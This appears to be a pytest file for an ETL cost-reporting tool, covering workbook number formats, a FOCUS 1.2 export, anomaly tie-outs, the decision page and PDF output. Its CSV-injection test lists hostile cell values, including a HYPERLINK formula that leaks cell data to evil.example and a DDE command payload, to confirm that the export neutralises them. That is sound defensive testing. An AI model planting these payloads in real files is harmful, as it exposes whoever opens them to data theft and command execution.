"""Number formats by unit, CSV injection, FOCUS 1.2, anomaly sheet tie-out, the decision page and the report PDF."""
from __future__ import annotations

import csv
import datetime as _dt
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest

from tests.conftest import run_cli
from tests.lo_recalc import soffice

from etl_desk.core.business_case.results import compute_results
from etl_desk.core.data import tables
from etl_desk.core.data.focus import MANDATORY_COLUMNS, to_focus, validate_focus, write_focus
from etl_desk.core.data.generate import generate
from etl_desk.core.errors import DataError
from etl_desk.core.insights.analysis import analyze
from etl_desk.core.workbook import pdf as pdf_mod
from etl_desk.core.workbook.export import export_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+2", "\r=1", "plain name"]


@pytest.fixture(scope="module")
def case_book(tmp_path_factory, case_study):
    p = tmp_path_factory.mktemp("units") / "case.xlsx"
    res = compute_results(case_study)
    export_workbook(p, case_study, res, source="case study")
    return p, res


def _find(ws, text):
    return next(c for row in ws.iter_rows() for c in row if c.value == text)


def test_insight_evidence_carries_a_unit_for_every_number(case_study):
    df = generate("realistic", runs=5000, seed=4, anomaly_rate=0.02)
    for data in (case_study, df):
        for ins in analyze(data).insights:
            ev = ins.evidence
            if ev is None or ev.empty:
                continue
            cols = list(map(str, ev.columns))
            if cols == ["Measure", "Value"]:
                assert all(m in ins.units for m in ev["Measure"]), ins.id
                continue
            for c in cols:
                if pd.api.types.is_numeric_dtype(ev[c]) and not pd.api.types.is_bool_dtype(ev[c]):
                    assert c in ins.units, (ins.id, c)


def test_number_formats_follow_the_units_from_core(case_book, case_study):
    """D2, D3, D19, D20: percentages already x100 print as 7.50 %, a cost share is not money, counts are whole."""
    wb = openpyxl.load_workbook(case_book[0])
    ws = wb["Insights"]
    head = _find(ws, "Failure rate (%)")
    first = ws.cell(head.row + 1, head.column)
    assert first.number_format == '0.00" %"' and 0 <= first.value <= 100  # 7.5 shows as 7.50 %, not 750.00 %
    share = _find(ws, "Share of cost (%)")
    cell = ws.cell(share.row + 1, share.column)
    assert cell.number_format == '0.00" %"' and "$" not in cell.number_format
    assert ws.cell(share.row + 1, share.column - 2).value == 948  # the Runs column of the same table
    assert ws.cell(share.row + 1, share.column - 2).number_format == "#,##0"
    kpis = openpyxl.load_workbook(case_book[0], data_only=True)["KPIs"]
    first_run = next(r[1] for r in kpis.iter_rows() if r[0].value == "First run")
    assert isinstance(first_run.value, _dt.datetime) and first_run.number_format == "yyyy-mm-dd hh:mm"
    p95 = next(r[1] for r in kpis.iter_rows() if r[0].value == "Duration p95")
    assert p95.number_format == '#,##0.0" min"'


def test_csv_export_neutralises_formula_text(tmp_path, case_study):
    """D14 (OWASP CSV injection): cells that start with = + - @ tab or CR are written with a leading quote."""
    df = case_study.head(len(HOSTILE)).copy()
    df["job_name"] = pd.array(HOSTILE, dtype="string")
    p = tmp_path / "out.csv"
    tables.write_table(df, p)
    with open(p, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    raw = pd.DataFrame(rows[1:], columns=rows[0])
    names = raw["Job Name"].tolist()
    for hostile, written in zip(HOSTILE, names):
        if hostile == "plain name":
            assert written == hostile
        else:
            assert written == "'" + hostile
    assert (raw["Cost (USD)"].astype(float) == df["cost_usd"].round(10)).all()  # numbers untouched


def test_focus_has_the_mandatory_columns_of_focus_1_2(tmp_path):
    """The 21 columns FOCUS 1.2's requirements model says MUST be present, x_ run columns, and valid values."""
    assert len(MANDATORY_COLUMNS) == 21
    assert {"BilledCost", "EffectiveCost", "ListCost", "ContractedCost", "ChargePeriodStart", "ChargePeriodEnd",
            "ServiceName", "BillingCurrency", "ProviderName", "PublisherName", "InvoiceIssuerName",
            "PricingQuantity", "PricingUnit"} <= set(MANDATORY_COLUMNS)
    df = generate("realistic", runs=3000, seed=5)
    df.loc[df.index[:3], "cost_usd"] = np.nan  # no price: left out
    frame, notes = to_focus(df)
    assert validate_focus(frame) == []
    assert len(frame) == 2997 and "3 of 3,000 runs have no price" in notes[0]
    for c in ("x_JobRunId", "x_ResultState", "x_DurationSeconds", "x_DataProcessedGB", "ResourceId", "Tags"):
        assert c in frame.columns
    assert frame["BilledCost"].sum() == pytest.approx(df["cost_usd"].sum())
    assert (frame["x_DurationSeconds"] == df["duration_min"].iloc[3:].to_numpy() * 60).all()
    spot = frame["x_Spot"].astype(bool).to_numpy()
    assert (frame.loc[spot, "PricingCategory"] == "Dynamic").all()
    write_focus(df, tmp_path / "f.csv")
    back = pd.read_csv(tmp_path / "f.csv")
    assert list(back.columns[:21]) == list(MANDATORY_COLUMNS) and validate_focus(back) == []
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", back["ChargePeriodStart"].iloc[0])
    write_focus(df, tmp_path / "f.parquet")
    assert validate_focus(pd.read_parquet(tmp_path / "f.parquet")) == []
    bad = frame.drop(columns=["BilledCost"]).assign(custom=1)
    assert set(validate_focus(bad)) >= {"missing mandatory column BilledCost", "custom column custom lacks the x_ prefix"}
    with pytest.raises(DataError, match="csv or .parquet"):
        write_focus(df, tmp_path / "f.json")


def test_anomaly_sheet_one_row_per_run_threshold_in_the_observed_unit_and_excess_ties_out(tmp_path):
    """D13: plain run IDs, one row per run, 'Flag at' in the unit of 'Observed', excess total = baseline."""
    df = generate("realistic", runs=8000, seed=6, anomaly_rate=0.02)
    res = compute_results(df)
    p = tmp_path / "a.xlsx"
    export_workbook(p, df, res)
    wb = openpyxl.load_workbook(p, data_only=True)
    ws = wb["Anomalies"]
    table = ws.tables["AnomalyRuns"]
    rows = list(ws[table.ref])
    head = [c.value for c in rows[0]]
    body = [[c.value for c in r] for r in rows[1:]]
    ids = [r[head.index("Job ID")] for r in body]
    assert len(ids) == len(set(ids)) == res.baseline.counts["anomalous_runs"]
    assert all(isinstance(i, str) and not i.startswith("[") for i in ids)
    obs, lim = head.index("Observed"), head.index("Flag at")
    assert all(r[obs] >= r[lim] * (1 - 1e-9) for r in body)  # flagged: observed is past the limit, same unit
    excess = sum(r[head.index("Excess over pipeline median (USD)")] for r in body)
    assert excess == pytest.approx(res.baseline.observed["anomaly_excess_cost"])
    (sheet, ref), = wb.defined_names["bl_anomaly_excess_cost_observed"].destinations
    assert wb[sheet][ref.replace("$", "")].value == pytest.approx(excess)


def test_decision_page_comes_first_and_says_what_it_would_take(case_book):
    """D15: the decision page ranks the options and, when nothing pays, says at what spend each would."""
    p, res = case_book
    wb = openpyxl.load_workbook(p, data_only=True)
    assert wb.sheetnames[0] == "Decision"
    ws = wb["Decision"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("No option pays back within the 36-month horizon") for t in texts)
    head = _find(ws, "Breaks even at a yearly spend of")
    ranked = [ws.cell(head.row + k, 3).value for k in range(1, 6)]
    assert ranked == sorted(ranked, reverse=True)  # NPVs, best first
    needed = [ws.cell(head.row + k, head.column).value for k in range(1, 6)]
    assert all(isinstance(v, float) and v > 0 for v in needed)
    assert ws["K1"].value == "OK" and wb["Cover"]["C4"].value == "OK"  # the checks flag on the cover pages
    assert any("assumption" in t and "storage" in t for t in texts)  # top risks: the storage placeholder


@pytest.mark.slow
def test_report_pdf_of_the_report_pages(tmp_path, case_study):
    if soffice() is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    src = tmp_path / "case.csv"
    tables.write_table(case_study, src)
    out = tmp_path / "report.pdf"
    r = run_cli("analyze", src, "-o", out, timeout=600)
    assert r.returncode == 0, r.stderr
    data = out.read_bytes()
    assert data.startswith(b"%PDF")
    pages = len(re.findall(rb"/Type\s*/Page[^s]", data))
    assert 8 <= pages <= 30  # decision, assumptions, business case, annual cash flows, scenarios, checks, charts


def test_report_pdf_without_libreoffice_says_what_to_do(tmp_path, case_study, monkeypatch):
    monkeypatch.setattr(pdf_mod, "find_soffice", lambda: None)
    with pytest.raises(DataError, match="needs LibreOffice"):
        pdf_mod.export_report_pdf(tmp_path / "r.pdf", case_study, compute_results(case_study))
    assert not (tmp_path / "r.pdf").exists()
